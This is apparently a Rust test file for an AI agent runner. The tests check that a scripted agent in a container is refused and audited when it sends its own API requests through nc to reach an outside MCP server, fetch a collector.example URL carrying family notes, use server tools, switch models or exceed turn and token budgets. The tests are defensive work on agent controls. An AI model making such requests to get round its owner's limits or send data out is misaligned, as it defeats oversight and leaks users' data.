//! The model channel, attacked from inside a real container: an agent that
//! writes its own Messages requests to the host socket (through its bridge,
//! as any process in the container can) to make the provider fetch a URL,
//! reach an MCP server, run a server tool, or spend more than the owner set.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use pincer_test_support as support;

use serde_json::{Value, json};
use support::*;

/// Sends each request body in `bodies` (with `headers`) to the host socket
/// through the container's bridge, printing one status line per request.
fn hostile_script(requests: &[(&str, Value)]) -> String {
    let mut script = String::from("cd /tmp\n");
    for (i, (headers, body)) in requests.iter().enumerate() {
        script.push_str(&format!(
            "cat > b{i} <<'BODY'\n{body}\nBODY\n\
             len=$(wc -c < b{i})\n\
             {{ printf 'POST /v1/messages HTTP/1.1\\r\\nHost: x\\r\\nContent-Type: application/json\\r\\n{headers}Content-Length: %s\\r\\nConnection: close\\r\\n\\r\\n' \"$len\"; cat b{i}; sleep 2; }} \
             | nc 127.0.0.1 3128 | head -n 1 | sed 's/^/request {i}: /'\n"
        ));
    }
    script
}

fn base(extra: Value) -> Value {
    let mut request = json!({
        "model": "claude-sonnet-4-5", "max_tokens": 1024,
        "messages": [{"role": "user", "content": "what is in the folder"}]
    });
    for (key, value) in extra.as_object().unwrap() {
        request[key] = value.clone();
    }
    request
}

#[test]
fn hostile_model_requests_from_a_container_are_refused_audited_and_never_sent() {
    let install = Installation::new();
    install.add_group("family");
    let secret_image = json!({"type": "image", "source": {"type": "url", "url": "https://collector.example/?d=family-notes"}});
    let requests = [
        (
            "",
            base(
                json!({"mcp_servers": [{"type": "url", "url": "https://collector.example/mcp", "name": "x"}]}),
            ),
        ),
        (
            "",
            base(json!({"messages": [{"role": "user", "content": [secret_image]}]})),
        ),
        (
            "",
            base(json!({"tools": [{"type": "web_search_20250305", "name": "web_search"}]})),
        ),
        (
            "",
            base(json!({"model": "claude-opus-4-1", "max_tokens": 32000})),
        ),
        ("", base(json!({"max_tokens": 64000}))),
        (
            "anthropic-beta: mcp-client-2025-04-04\\r\\n",
            base(json!({})),
        ),
        (
            "",
            base(json!({"messages": [{"role": "user", "content": [
            {"type": "document", "source": {"type": "file", "file_id": "file_owners"}}]}]})),
        ),
    ];
    let model = ScriptedModel::start(vec![
        tool_use("bash", json!({"command": hostile_script(&requests)})),
        answer(|request| request.last_tool_result()),
    ]);
    let output = install
        .pincer(&model.url())
        .args(["run-once", "--group", "family", "@pincer go"])
        .output()
        .unwrap();
    assert!(output.status.success(), "{}", text(&output));
    let answer = String::from_utf8_lossy(&output.stdout).into_owned();
    for i in 0..requests.len() {
        assert!(
            answer.contains(&format!("request {i}: HTTP/1.1 400")),
            "request {i} was not refused: {answer}"
        );
    }

    // Only the runner's own two requests reached the model, with the owner's
    // model and cap, and nothing of the hostile ones.
    let seen = model.requests();
    assert_eq!(seen.len(), 2, "{seen:?}");
    for request in &seen {
        let body = request.json();
        assert_eq!(body["model"], "claude-sonnet-4-5");
        assert_eq!(body["max_tokens"], 8192);
        // Nothing of the hostile shapes reached it: they appear only inside
        // the bash command (a string) that the runner hands back.
        assert!(body.get("mcp_servers").is_none(), "{body}");
        let mut outside_the_command = body.clone();
        outside_the_command["messages"] = json!([]);
        let outside_the_command = outside_the_command.to_string();
        for shape in ["collector.example", "web_search", "file_owners"] {
            assert!(!outside_the_command.contains(shape), "{shape}: {body}");
        }
        for message in body["messages"].as_array().unwrap() {
            for block in message["content"].as_array().into_iter().flatten() {
                assert!(
                    ["text", "tool_use", "tool_result"].contains(&block["type"].as_str().unwrap()),
                    "{block}"
                );
            }
        }
        assert!(request.header("anthropic-beta").is_none());
    }

    let refused: Vec<Value> = install
        .audit_of_kind("model")
        .into_iter()
        .filter(|e| e["allowed"] == false)
        .collect();
    assert_eq!(refused.len(), requests.len(), "{refused:?}");
    let reasons: Vec<&str> = refused
        .iter()
        .map(|e| e["reason"].as_str().unwrap())
        .collect();
    for expected in [
        "\"mcp_servers\" is not forwarded",
        "\"url\" sources are refused",
        "is a server tool",
        "\"claude-opus-4-1\" is not allowed",
        "max_tokens",
        "\"mcp-client-2025-04-04\" is not allowed",
        "\"file\" sources are refused",
    ] {
        assert!(
            reasons.iter().any(|r| r.contains(expected)),
            "{expected}: {reasons:?}"
        );
    }
}

/// `max_turns` is counted by the host: an agent that writes its own requests
/// past it (not through the runner, which counts for itself) is refused.
#[test]
fn the_host_counts_an_invocations_model_requests() {
    let install = Installation::new();
    let minimal = json!({"model": "claude-sonnet-4-5", "max_tokens": 16,
        "messages": [{"role": "user", "content": "more"}]});
    let extra = [("", minimal.clone()), ("", minimal.clone()), ("", minimal)];
    let model = ScriptedModel::start(vec![
        tool_use("bash", json!({"command": hostile_script(&extra)})),
        say("one"),
        say("two"),
        say("three"),
    ]);
    // max_turns 2: two turns and one compaction, three requests in all.
    let output = install
        .pincer(&model.url())
        .env("PINCER_MAX_TURNS", "2")
        .args(["run-once", "go"])
        .output()
        .unwrap();
    assert!(!output.status.success(), "{}", text(&output));
    assert!(
        text(&output).contains("has made its 3 model requests"),
        "{}",
        text(&output)
    );
    assert_eq!(
        model.requests().len(),
        3,
        "the model got more than the host allows"
    );
    let refused = events(
        install
            .audit_of_kind("model")
            .iter()
            .filter(|e| e["allowed"] == false),
    );
    assert_eq!(refused, 2, "the agent's third and the runner's second");
    // The owner is told, once.
    let store = pincer_store::Store::open(&install.home().join("pincer.db")).unwrap();
    let told = store.outgoing(pincer_store::MAIN_CHAT).unwrap();
    assert_eq!(told.len(), 1, "{told:?}");
    assert!(
        told[0].1.contains("has made its 3 model requests"),
        "{told:?}"
    );
}

/// Budgets are counted by the host from what the model answered: a group
/// over its daily budget is refused mid-invocation by the gateway and, next
/// time, before any container starts; all groups together likewise; the
/// main chat is told once per budget; `pincer usage` shows the tokens.
#[test]
fn budgets_hold_on_the_host_and_the_owner_is_told_once() {
    let install = Installation::new();
    install.add_group("family");
    std::fs::create_dir_all(install.config_dir()).unwrap();
    std::fs::write(
        install.config_dir().join("config.toml"),
        "[budget]\ngroup_daily_tokens = 60\ntotal_daily_tokens = 100\n",
    )
    .unwrap();
    let run = |group: &str, steps: Vec<Step>| {
        let model = ScriptedModel::start(steps);
        let output = install
            .pincer(&model.url())
            .args(["run-once", "--group", group, "@pincer go"])
            .output()
            .unwrap();
        (output, model.requests().len())
    };
    let tool = || tool_use("bash", json!({"command": "true"}));
    // 15 tokens a tool turn: the fifth request finds 60 of 60 used.
    let (output, seen) = run("family", vec![tool(), tool(), tool(), tool(), say("never")]);
    assert!(!output.status.success(), "{}", text(&output));
    assert!(
        text(&output).contains("group family used 60 of 60"),
        "{}",
        text(&output)
    );
    assert_eq!(seen, 4);
    // Next time nothing starts.
    let (output, seen) = run("family", vec![say("never")]);
    assert!(
        text(&output).contains("group family used 60 of 60"),
        "{}",
        text(&output)
    );
    assert_eq!(seen, 0);
    assert!(install.containers().is_empty());

    // Main has a budget of its own, but the total holds it: 27 tokens an answer.
    for _ in 0..2 {
        let (output, seen) = run("main", vec![say("fine")]);
        assert!(output.status.success(), "{}", text(&output));
        assert_eq!(seen, 1);
    }
    let (output, seen) = run("main", vec![say("never")]);
    assert!(
        text(&output).contains("all groups together used 114 of 100"),
        "{}",
        text(&output)
    );
    assert_eq!(seen, 0);

    let store = pincer_store::Store::open(&install.home().join("pincer.db")).unwrap();
    let told: Vec<String> = store
        .outgoing(pincer_store::MAIN_CHAT)
        .unwrap()
        .into_iter()
        .map(|(_, text)| text)
        .collect();
    assert_eq!(told.len(), 2, "{told:?}");
    assert!(
        told[0].contains("group family") && told[1].contains("all groups together"),
        "{told:?}"
    );

    let usage = install
        .pincer("http://127.0.0.1:1")
        .args(["usage", "--json"])
        .output()
        .unwrap();
    assert!(usage.status.success(), "{}", text(&usage));
    let rows: Vec<Value> = String::from_utf8_lossy(&usage.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    let family = rows.iter().find(|r| r["group"] == "family").unwrap();
    assert_eq!(family["requests"], 4);
    assert_eq!(family["input_tokens"], 40);
    assert_eq!(family["output_tokens"], 20);
    let main = rows.iter().find(|r| r["group"] == "main").unwrap();
    assert_eq!(
        (main["requests"].clone(), main["input_tokens"].clone()),
        (json!(2), json!(40))
    );
}
